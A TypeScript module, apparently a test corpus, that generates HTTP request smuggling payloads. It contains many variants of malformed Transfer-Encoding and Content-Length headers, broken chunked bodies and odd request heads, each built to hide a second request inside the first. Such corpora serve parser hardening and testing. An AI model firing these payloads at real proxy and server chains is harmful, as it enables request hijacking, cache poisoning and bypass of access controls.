/** What an attacker wants somebody to take for a request. */
const HIDDEN = "GET /v1/hidden HTTP/1.1\r\nHost: a\r\n\r\n";
export type Attack = readonly [name: string, bytes: string];

function post(fields: string, body: string, version = "1.1"): string {
  return `POST /v1/x HTTP/${version}\r\nHost: a\r\n${fields}\r\n${body}`;
}

const inChunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
const behindLastChunk = `0\r\n\r\n${HIDDEN}`;

/** Transfer-Encoding as servers have taken it, or not. */
const CODINGS: readonly Attack[] = [
  ["plain", "Transfer-Encoding: chunked\r\n"],
  ["misspelt", "Transfer-Encoding: xchunked\r\n"],
  ["no blank", "Transfer-Encoding:chunked\r\n"],
  ["two blanks", "Transfer-Encoding:  chunked\r\n"],
  ["a blank behind", "Transfer-Encoding: chunked \r\n"],
  ["a tab before", "Transfer-Encoding:\tchunked\r\n"],
  ["a tab behind", "Transfer-Encoding: chunked\t\r\n"],
  ["a vertical tab", "Transfer-Encoding: \x0bchunked\r\n"],
  ["a form feed", "Transfer-Encoding: \fchunked\r\n"],
  ["NUL behind", "Transfer-Encoding: chunked\0\r\n"],
  ["a no-break space", "Transfer-Encoding: \xa0chunked\r\n"],
  ["0x85", "Transfer-Encoding: chunked\x85\r\n"],
  ["a blank before the colon", "Transfer-Encoding : chunked\r\n"],
  ["a tab before the colon", "Transfer-Encoding\t: chunked\r\n"],
  ["a line end before the colon", "Transfer-Encoding\r\n : chunked\r\n"],
  ["a blank before the name", " Transfer-Encoding: chunked\r\n"],
  ["folded", "Transfer-Encoding:\r\n chunked\r\n"],
  ["an underscore", "Transfer_Encoding: chunked\r\n"],
  ["capitals", "TRANSFER-ENCODING: CHUNKED\r\n"],
  ["mixed", "tRaNsFeR-eNcOdInG: cHuNkEd\r\n"],
  ["in quotes", 'Transfer-Encoding: "chunked"\r\n'],
  ["in single quotes", "Transfer-Encoding: 'chunked'\r\n"],
  ["a parameter", "Transfer-Encoding: chunked;q=1\r\n"],
  ["a semicolon", "Transfer-Encoding: chunked;\r\n"],
  ["identity", "Transfer-Encoding: identity\r\n"],
  ["identity, chunked", "Transfer-Encoding: identity, chunked\r\n"],
  ["chunked, identity", "Transfer-Encoding: chunked, identity\r\n"],
  ["gzip, chunked", "Transfer-Encoding: gzip, chunked\r\n"],
  ["chunked, chunked", "Transfer-Encoding: chunked, chunked\r\n"],
  ["a comma", "Transfer-Encoding: chunked,\r\n"],
  ["a comma before", "Transfer-Encoding: ,chunked\r\n"],
  ["empty", "Transfer-Encoding:\r\n"],
  ["twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"],
  ["twice, first identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n"],
  ["twice, then identity", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"],
  ["twice, then empty", "Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n"],
  ["behind a bare LF", "X: X\nTransfer-Encoding: chunked\r\n"],
  ["behind a bare CR", "X: X\rTransfer-Encoding: chunked\r\n"],
  ["behind NUL", "X: X\0Transfer-Encoding: chunked\r\n"],
  ["behind an empty field", "X:\nTransfer-Encoding: chunked\r\n"],
  ["in a value", "X: Transfer-Encoding: chunked\r\n"],
  ["no colon", "Transfer-Encoding chunked\r\n"],
  ["NUL in the name", "Transfer-\0Encoding: chunked\r\n"],
  ["a dot in the name", "Transfer.Encoding: chunked\r\n"],
  ["Content-Encoding", "Content-Encoding: chunked\r\n"],
  ["named by Connection", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n"],
];

/** Content-Length as servers have taken it, or not; N stands for the number. */
const LENGTHS: readonly Attack[] = [
  ["plain", "Content-Length: N\r\n"],
  ["a sign", "Content-Length: +N\r\n"],
  ["minus", "Content-Length: -N\r\n"],
  ["a blank behind", "Content-Length: N \r\n"],
  ["blanks before", "Content-Length:   N\r\n"],
  ["a tab", "Content-Length:\tN\r\n"],
  ["a vertical tab", "Content-Length: \x0bN\r\n"],
  ["NUL", "Content-Length: N\0\r\n"],
  ["a blank inside", "Content-Length: 0 N\r\n"],
  ["zeros", "Content-Length: 000N\r\n"],
  ["0x", "Content-Length: 0xN\r\n"],
  ["a point", "Content-Length: N.0\r\n"],
  ["an exponent", "Content-Length: Ne0\r\n"],
  ["an underscore in it", "Content-Length: N_\r\n"],
  ["in quotes", 'Content-Length: "N"\r\n'],
  ["a list of the same", "Content-Length: N, N\r\n"],
  ["a list of others", "Content-Length: 0, N\r\n"],
  ["a comma", "Content-Length: N,\r\n"],
  ["a comma before", "Content-Length: ,N\r\n"],
  ["twice the same", "Content-Length: N\r\nContent-Length: N\r\n"],
  ["twice, first 0", "Content-Length: 0\r\nContent-Length: N\r\n"],
  ["twice, then 0", "Content-Length: N\r\nContent-Length: 0\r\n"],
  ["twice in two spellings", "Content-Length: 0\r\ncontent-length: N\r\n"],
  ["an underscore", "Content_Length: N\r\n"],
  ["an underscore, and 0", "Content-Length: 0\r\nContent_Length: N\r\n"],
  ["a blank before the colon", "Content-Length : N\r\n"],
  ["a blank before the name", " Content-Length: N\r\n"],
  ["folded", "Content-Length:\r\n N\r\n"],
  ["behind a bare LF", "X: X\nContent-Length: N\r\n"],
  ["behind a bare CR", "X: X\rContent-Length: N\r\n"],
  ["beyond 2^64", "Content-Length: 1844674407370955161N\r\n"],
  ["named by Connection", "Connection: Content-Length\r\nContent-Length: N\r\n"],
  ["named by Connection in capitals", "Connection: close-not, CONTENT-LENGTH\r\nContent-Length: N\r\n"],
  ["with Expect", "Expect: 100-continue\r\nContent-Length: N\r\n"],
  ["with a misspelt Expect", "Expect: y 100-continue\r\nContent-Length: N\r\n"],
  ["with an empty Expect", "Expect:\r\nContent-Length: N\r\n"],
  ["with two Expects", "Expect: 100-continue\r\nExpect: x\r\nContent-Length: N\r\n"],
  ["with Upgrade", "Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: N\r\n"],
];

/** Chunked bodies behind a good head. */
const CHUNKS: readonly Attack[] = [
  ["LF in an extension", `0;\n${HIDDEN}\r\n\r\n`],
  ["LF in a later extension", `5;a=b\nhello\r\n0\r\n\r\n${HIDDEN}`],
  ["CR in an extension", `0;a\r${HIDDEN}\r\n\r\n`],
  ["CR CR LF behind a size", `0\r\r\n\r\n${HIDDEN}`],
  ["a blank behind the last size", `0 \r\n\r\n${HIDDEN}`],
  ["LF behind the last size", `0\n\r\n${HIDDEN}`],
  ["LF LF behind the last size", `0\n\n${HIDDEN}`],
  ["CR behind the last size", `0\r\r${HIDDEN}`],
  ["LF behind a size", `5\nhello\r\n0\r\n\r\n${HIDDEN}`],
  ["LF behind the data", `5\r\nhello\n0\r\n\r\n${HIDDEN}`],
  ["CR behind the data", `5\r\nhello\r0\r\n\r\n${HIDDEN}`],
  ["nothing behind the data", `5\r\nhello0\r\n\r\n${HIDDEN}`],
  ["a character for the CR behind the data", `5\r\nhelloX\n0\r\n\r\n${HIDDEN}`],
  ["a blank for the CR behind a size", `5 \nhello\r\n0\r\n\r\n${HIDDEN}`],
  ["two characters behind the data", `5\r\nhelloXX0\r\n\r\n${HIDDEN}`],
  ["another end of a chunk", `2\r\nxx34\r\n0\r\n\r\n${HIDDEN}`],
  ["a size of 0x0", `0x0\r\n\r\n${HIDDEN}`],
  ["a negative size", `-1\r\n\r\n${HIDDEN}`],
  ["a signed size", `+0\r\n\r\n${HIDDEN}`],
  ["a size with an underscore", `0_2\r\nab\r\n0\r\n\r\n${HIDDEN}`],
  ["a size that becomes 0 in 32 bits", `100000000\r\n\r\n${HIDDEN}`],
  ["a size that becomes 0 in 64 bits", `10000000000000000\r\n\r\n${HIDDEN}`],
  ["a size that becomes 5 in 64 bits", `10000000000000005\r\nhello\r\n0\r\n\r\n${HIDDEN}`],
  ["a size beyond whole numbers", `20000000000001\r\n\r\n${HIDDEN}`],
  ["an empty size", `\r\n\r\n${HIDDEN}`],
  ["a size of blanks", `  \r\n\r\n${HIDDEN}`],
  ["a size behind a blank", ` 0\r\n\r\n${HIDDEN}`],
  ["a size that ends in g", `0g\r\n\r\n${HIDDEN}`],
  ["an extension in quotes that holds a line end", `0;a="\r\n\r\n${HIDDEN}"\r\n\r\n`],
  ["an extension that escapes its line end", `0;a="\\\r\n\r\n${HIDDEN}"\r\n\r\n`],
  ["a request for an extension", `0;${HIDDEN}`],
  ["a request for a trailer", `0\r\n${HIDDEN}`],
  ["a length among the trailers", `0\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["a coding among the trailers", `0\r\nTransfer-Encoding: chunked\r\n\r\n${HIDDEN}`],
  ["a Host among the trailers", `0\r\nHost: b\r\n\r\n`],
  ["LF for the end of the trailers", `0\r\nX: y\n\n${HIDDEN}`],
  ["LF for the end of all", `0\r\n\n${HIDDEN}`],
  ["a folded trailer", `0\r\nX: y\r\n ${HIDDEN}`],
  ["a trailer that begins with a blank", `0\r\n X: y\r\n\r\n${HIDDEN}`],
  ["a trailer with NUL", `0\r\nX: \0\r\n\r\n${HIDDEN}`],
];

/** What can be said of the whole head. */
const HEADS: readonly Attack[] = [
  ["no Host", `POST /v1/x HTTP/1.1\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["the preface of HTTP/2", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${HIDDEN}`],
  ["the preface, and frames", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0`],
  ["HTTP/0.9", `GET /v1/x\r\n${HIDDEN}`],
  ["HTTP/1.1 twice in the line", `GET /v1/x HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n${HIDDEN}`],
  ["a request in the target", `GET /v1/x\r\n\r\n${HIDDEN} HTTP/1.1\r\nHost: a\r\n\r\n`],
  ["a line end as LF CR", `GET /v1/x HTTP/1.1\n\rHost: a\n\r\n\r${HIDDEN}`],
  ["the whole head with LF", `GET /v1/x HTTP/1.1\nHost: a\n\n${HIDDEN}`],
  ["an empty line of a blank", `GET /v1/x HTTP/1.1\r\nHost: a\r\n \r\n${HIDDEN}`],
  ["an empty line of CR CR LF", `GET /v1/x HTTP/1.1\r\nHost: a\r\n\r\r\n${HIDDEN}`],
  ["a body that GET does not have", `GET /v1/x HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["a body behind HEAD", `HEAD /v1/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${inChunk(HIDDEN)}`],
  ["a body behind OPTIONS", `OPTIONS /v1/x HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["a refused target with a body", `POST /v1/../x HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["no route, and a body", `POST /nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ["no route, and chunks", `POST /nowhere HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${inChunk(HIDDEN)}`],
];

/** Messages in which a request is hidden in a place where some reader, somewhere, finds it. */
export function* attacks(): Generator<Attack> {
  for (const [name, coding] of CODINGS) {
    for (const version of ["1.1", "1.0"]) {
      const kept = version === "1.0" ? "Connection: keep-alive\r\n" : "";
      yield [
        `length then chunks in HTTP/${version}, ${name}`,
        post(`${kept}Content-Length: ${behindLastChunk.length}\r\n${coding}`, behindLastChunk, version),
      ];
      yield [`chunks then length in HTTP/${version}, ${name}`, post(`${kept}${coding}Content-Length: 4\r\n`, inChunk(HIDDEN), version)];
      yield [`chunks in HTTP/${version}, ${name}`, post(`${kept}${coding}`, inChunk(HIDDEN), version)];
    }
    yield [`two codings, ${name}`, post(`Transfer-Encoding: chunked\r\n${coding}`, inChunk(HIDDEN))];
    yield [`two codings, ${name} first`, post(`${coding}Transfer-Encoding: chunked\r\n`, behindLastChunk)];
  }
  for (const [name, length] of LENGTHS) {
    yield [`length: ${name}`, post(length.replaceAll("N", String(HIDDEN.length)), HIDDEN)];
    yield [`length of GET: ${name}`, post(length.replaceAll("N", String(HIDDEN.length)), HIDDEN).replace("POST", "GET")];
    yield [
      `length in HTTP/1.0: ${name}`,
      post(`Connection: keep-alive\r\n${length.replaceAll("N", String(HIDDEN.length))}`, HIDDEN, "1.0"),
    ];
  }
  for (const [name, body] of CHUNKS) yield [`chunks: ${name}`, post("Transfer-Encoding: chunked\r\n", body)];
  for (const [name, bytes] of HEADS) yield [`head: ${name}`, bytes];
}
